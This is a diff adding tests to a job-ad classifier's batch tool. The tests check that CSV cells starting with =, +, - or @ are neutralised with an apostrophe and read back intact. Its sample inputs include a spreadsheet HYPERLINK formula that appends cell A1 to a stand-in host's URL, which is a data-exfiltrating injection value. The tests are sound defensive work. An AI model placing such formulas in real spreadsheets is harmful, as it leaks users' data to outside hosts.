@@ -13,9 +13,11 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
 
 import jdclass
-from jdclass.batch import COLUMNS, BatchInputs, BatchSummary, _interrupt_after, run_batch
+from jdclass.batch import COLUMNS, TEXT_COLUMNS, BatchInputs, BatchSummary, _interrupt_after, read_back, run_batch, spreadsheet_safe
 from jdclass.cli import cli
 from jdclass.corpus import DEFAULT_CORPUS, POSTING_FIELDS, read_front_matter
 from jdclass.errors import EmptyInput, InputError, InputTooLarge
@@ -390,3 +392,39 @@ def test_the_summary_counts_each_flag_in_the_order_flags_gives_them():
         "Flagged (see the flags column): low_confidence 1, no_level_cue 2",
         "Errors: 1 (see the error column)",
     ]
+
+
+FORMULAS = ('=HYPERLINK("http://x.test/?"&A1)', "+1 555 0100", "-Own the roadmap", "@SUM(A1:A9)", "'=already quoted", "''+two quotes")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe_and_resume_reads_them_back(tmp_path, classifier):
+    """Text from the inputs (ids, titles, evidence, errors) never opens a CSV cell with =, +, - or @: a spreadsheet would
+    run it as a formula. JSONL keeps the text as it is; resuming a CSV matches the ids as they were."""
+    rows = [{"url": url, "body": f"Job title: {url}\n\nOwn the roadmap for our payments platform and work with engineering."} for url in FORMULAS]
+    Path("ads.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    Path("=empty.txt").write_text(" ", encoding="utf-8")  # a file named as a formula: its error names it first
+    inputs = BatchInputs((Path("ads.jsonl"), Path("=empty.txt")), text_column="body", id_column="url")
+    run_batch(inputs, "levels.csv", model=classifier)
+    run_batch(inputs, "levels.jsonl", model=classifier)
+    plain = [json.loads(line) for line in Path("levels.jsonl").read_text(encoding="utf-8").splitlines()]
+    cells = read_rows(Path("levels.csv"))
+    assert [row["id"] for row in plain] == [*FORMULAS, "=empty.txt"]
+    assert [row["id"] for row in cells] == ["'" + url for url in FORMULAS] + ["'=empty.txt"]
+    assert [row["title"] for row in plain[:-1]] == list(FORMULAS)
+    assert [row["title"] for row in cells[:-1]] == ["'" + url for url in FORMULAS]
+    assert cells[-1]["error"] == "'" + plain[-1]["error"] and plain[-1]["error"].startswith("=empty.txt: ")
+    for column in TEXT_COLUMNS:
+        assert all(not cell[column].startswith(("=", "+", "-", "@")) for cell in cells)
+    text = Path("levels.csv").read_text(encoding="utf-8")
+    Path("levels.csv").write_text("".join(text.splitlines(keepends=True)[:4]), encoding="utf-8")  # three rows done
+    again = run_batch(inputs, "levels.csv", model=classifier, resume=True)
+    assert (again.skipped, again.written) == (3, 4)
+    assert Path("levels.csv").read_text(encoding="utf-8") == text
+
+
+@given(st.text(max_size=12))
+def test_read_back_undoes_spreadsheet_safe(text):
+    cell = spreadsheet_safe(text)
+    assert read_back(cell) == text
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert cell == text or cell == "'" + text
